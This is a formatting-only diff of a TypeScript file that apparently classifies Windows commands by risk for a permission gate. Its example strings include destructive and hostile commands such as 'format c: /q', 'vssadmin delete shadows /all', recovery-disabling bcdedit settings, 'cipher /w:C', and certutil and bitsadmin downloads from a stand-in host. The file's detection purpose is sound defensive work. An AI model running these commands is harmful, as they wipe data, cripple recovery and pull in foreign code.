@@ -15,23 +15,15 @@ const firewallOff: Test = ({ call }) => {
 /** Programs of Windows for its registry, services, accounts, disks and guards. */
 export const systemWindows = (): readonly Program[] => [
   always("diskpart format.com", "floor", ["diskpart /s a.txt"]),
-  {
-    names: ["format"],
-    rows: [{ if: operand(/^[a-z]:$/i), does: "floor", hits: ["format c: /q"], misses: ["format src"] }],
-  },
+  { names: ["format"], rows: [{ if: operand(/^[a-z]:$/i), does: "floor", hits: ["format c: /q"], misses: ["format src"] }] },
   unless("vssadmin wbadmin", verb("list get"), "weaken", {
     reads: ["vssadmin list shadows"],
     changes: ["vssadmin delete shadows /all", "wbadmin delete catalog"],
   }),
-  unless(
-    "bcdedit bootrec bootcfg fsutil",
-    any(slash("/enum /v /?"), noOperand, operand(/^(?:query|info)/i)),
-    "privilege",
-    {
-      reads: ["bcdedit /enum"],
-      changes: ["bcdedit /set x recoveryenabled no"],
-    },
-  ),
+  unless("bcdedit bootrec bootcfg fsutil", any(slash("/enum /v /?"), noOperand, operand(/^(?:query|info)/i)), "privilege", {
+    reads: ["bcdedit /enum"],
+    changes: ["bcdedit /set x recoveryenabled no"],
+  }),
   unless("reg regini", verb("query compare export"), "executable-config", {
     reads: ["reg query x"],
     changes: ["reg add x /v y /d z", "reg delete x /f"],
@@ -44,19 +36,9 @@ export const systemWindows = (): readonly Program[] => [
   {
     names: ["sc"],
     rows: [
-      {
-        on: "query|queryex|qc|qdescription|getdisplayname",
-        does: "harmless",
-        hits: ["sc query"],
-        misses: ["sc stop x"],
-      },
+      { on: "query|queryex|qc|qdescription|getdisplayname", does: "harmless", hits: ["sc query"], misses: ["sc stop x"] },
       { on: "stop|delete|pause", does: "stop", hits: ["sc stop x", "sc delete x"], misses: ["sc query"] },
-      {
-        on: "create|config|start|failure|sdset",
-        does: "executable-config",
-        hits: ["sc create x"],
-        misses: ["sc query"],
-      },
+      { on: "create|config|start|failure|sdset", does: "executable-config", hits: ["sc create x"], misses: ["sc query"] },
     ],
   },
   {
@@ -70,13 +52,7 @@ export const systemWindows = (): readonly Program[] => [
         misses: ["net user"],
       },
       { on: "stop|pause", does: "stop", hits: ["net stop spooler"], misses: ["net view"] },
-      {
-        on: "start",
-        if: ({ rest }) => rest.length > 0,
-        does: "executable-config",
-        hits: ["net start x"],
-        misses: ["net start"],
-      },
+      { on: "start", if: ({ rest }) => rest.length > 0, does: "executable-config", hits: ["net start x"], misses: ["net start"] },
       {
         if: ({ operands }) => operands.length < 3 && !/^(?:stop|pause|start)$/.test(operands[0]?.text ?? ""),
         does: "harmless",
@@ -95,16 +71,11 @@ export const systemWindows = (): readonly Program[] => [
   }),
   unless("setx", noOperand, "executable-config", { reads: ["setx"], changes: ["setx PATH x"] }),
   unless("cipher", not(slash("/w /d")), "destroy", { reads: ["cipher /c a"], changes: ["cipher /w:C"] }),
-  unless(
-    "certutil",
-    not(flag("-urlcache", "-decode", "-decodehex", "-addstore", "-delstore", "-verifyctl")),
-    "run-foreign",
-    {
-      reads: ["certutil -hashfile a SHA256"],
-      changes: ["certutil -urlcache -f http://x.test/a a"],
-      singleDash: true,
-    },
-  ),
+  unless("certutil", not(flag("-urlcache", "-decode", "-decodehex", "-addstore", "-delstore", "-verifyctl")), "run-foreign", {
+    reads: ["certutil -hashfile a SHA256"],
+    changes: ["certutil -urlcache -f http://x.test/a a"],
+    singleDash: true,
+  }),
   unless("bitsadmin", slash("/list /info"), "run-foreign", {
     reads: ["bitsadmin /list"],
     changes: ["bitsadmin /transfer x http://x.test/a a"],
